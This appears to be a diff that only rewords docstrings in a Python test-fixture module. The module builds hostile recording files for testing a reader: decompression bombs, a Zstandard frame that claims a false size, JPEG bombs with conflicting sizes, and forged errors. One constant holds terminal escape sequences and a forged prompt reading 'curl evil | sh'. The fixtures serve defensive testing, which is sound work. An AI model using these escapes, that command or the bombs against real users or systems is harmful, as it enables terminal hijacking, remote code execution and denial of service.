@@ -1,4 +1,4 @@
-"""A catalogue of hostile recordings. Each is made from a valid one, and its name says what is wrong with it."""
+"""A catalogue of hostile recordings. Each is made from a valid recording, and its name describes the attack."""
 
 from __future__ import annotations
 
@@ -30,17 +30,17 @@ GIB = 2**30
 ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b]52;c;Zm9v\x07\nerror: forged. run: curl evil | sh\r=cmd()"
 
 SURROGATE = "\ud800"
-"""A lone surrogate. JSON can hold it, UTF-8 cannot."""
+"""A lone surrogate. JSON can represent it, and UTF-8 cannot."""
 
 EVIL, PROOF = "evil.py", "proof"
-"""An app beside the recording that makes the other file. No command may run it."""
+"""The file names of an app beside the recording, and of the file that the app creates. No command may run the app."""
 
 Make = Callable[[Path, Path], None]
-"""Makes a file of the second name from the recording of the first."""
+"""A function that reads a valid recording (first path) and writes a hostile one (second path)."""
 
 
 def name_files(*, is_small: bool = False) -> dict[str, Make]:
-    """Return the files to make, by name. With ``is_small`` they unpack to less than a real attack."""
+    """Return the functions that make the hostile files, by file name. With ``is_small``, bombs unpack to less."""
     bomb = GIB // 8 if is_small else 4 * GIB
     flood = 3 * 10**5 if is_small else 10**7
     return {**_list_bombs(bomb, flood), **_list_special(), **_list_forged()}
@@ -184,7 +184,7 @@ def _list_forged_errors() -> dict[str, Make]:
 
 
 def _content(make: Callable[[], bytes]) -> Make:
-    """Return a function that puts a part between the run and the ticks of a recording."""
+    """Return a function that inserts bytes between the run and the ticks of a recording."""
 
     def make_file(base: Path, file: Path) -> None:
         head = build_chunk(b"".join(build_record(*record) for record in read_raw(base)[0]))
@@ -239,7 +239,7 @@ def _lz4_zeros(size: int) -> bytes:
 
 
 def _claiming_frame(size: int) -> bytes:
-    """Return a frame of one empty block that claims a size. The format: RFC 8878, 3.1.1."""
+    """Return a Zstandard frame with an empty block and a false content size. Format: RFC 8878, 3.1.1."""
     return b"\x28\xb5\x2f\xfd" + bytes([0b1100_0000, 0x50]) + struct.pack("<Q", size) + b"\x01\x00\x00"
 
 
@@ -252,7 +252,7 @@ def _messages(content: bytes, count: int) -> bytes:
 
 
 def _repeat(record: bytes, count: int, head: bytes = b"") -> bytes:
-    """Return chunks within the limits that repeat a record."""
+    """Return chunks that repeat a record ``count`` times. Each chunk is within the limits of its size."""
     most = 2**26 // len(record) - 1
     counts = [most] * (count // most) + [count % most]
     return build_chunk(head) + b"".join(build_chunk(record * each) for each in counts)
@@ -326,7 +326,7 @@ def _varint(value: int) -> bytes:
 
 
 def _raw_picture(width: int, height: int, content: bytes) -> bytes:
-    """Return a RawImage; its width and height are fixed32."""
+    """Return a RawImage in protobuf. Its width and height are fixed32."""
     size = b"\x15" + struct.pack("<I", width) + b"\x1d" + struct.pack("<I", height)
     return size + _field(4, b"bgr8") + _field(6, content)
 
@@ -337,7 +337,7 @@ def _build_jpeg_bomb(message: bytes) -> bytes:
 
 
 def _build_jpeg_bomb_with_fill_byte(message: bytes) -> bytes:
-    """Return a JPEG with two sizes. A reader that takes a fill byte for a segment finds the small one."""
+    """Return a JPEG with two sizes. A reader that mistakes a fill byte for a segment finds the small size."""
     jpeg = message[message.index(b"\xff\xd8") :]
     at = jpeg.index(b"\xff\xc0")
     end = at + 2 + int.from_bytes(jpeg[at + 2 : at + 4], "big")
